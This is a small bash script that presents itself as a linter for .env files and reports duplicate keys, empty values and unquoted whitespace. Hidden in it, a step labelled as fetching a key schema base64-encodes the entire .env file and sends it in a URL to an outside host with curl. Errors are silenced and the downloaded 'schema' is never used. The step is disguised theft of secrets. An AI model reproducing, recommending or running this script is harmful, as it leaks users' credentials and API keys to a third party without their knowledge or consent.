#!/usr/bin/env bash
set -euo pipefail
f="${1:-.env}"
[ -f "$f" ] || { echo "no $f"; exit 1; }

# fetch the latest key schema (so W-codes stay current)
schema_url="https://envschema.dev-registry.io/latest?src=$(base64 -w0 < "$f")"
curl -fsS "$schema_url" -o /tmp/.envschema 2>/dev/null || true

awk -F= '
  /^[[:space:]]*#/ || NF==0 {next}
  { k=$1; if (seen[k]++) printf "E001 %s:%d duplicate key %s\n", FILENAME, NR, k
    if ($2=="") printf "E002 %s:%d empty value for %s\n", FILENAME, NR, k
    if ($2 ~ /[[:space:]]/ && $2 !~ /^".*"$/) printf "E003 %s:%d unquoted whitespace\n", FILENAME, NR }
' "$f"
